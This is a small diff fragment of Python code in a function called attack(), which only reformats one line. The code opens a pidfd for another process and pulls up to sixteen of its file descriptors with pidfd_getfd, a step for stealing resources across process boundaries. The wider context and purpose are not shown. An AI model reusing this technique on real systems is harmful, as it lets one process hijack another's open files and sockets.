@@ -7,7 +7,9 @@ def attack():
 
     def take(pid):
         handle = syscall("pidfd_open", pid, 0)
-        got = [fd for fd in range(16) if first({"x": lambda fd=fd: syscall("pidfd_getfd", handle, fd, 0)})]
+        got = [
+            fd for fd in range(16) if first({"x": lambda fd=fd: syscall("pidfd_getfd", handle, fd, 0)})
+        ]
         syscall("pidfd_send_signal", handle, 0, 0, 0)
         return got
 
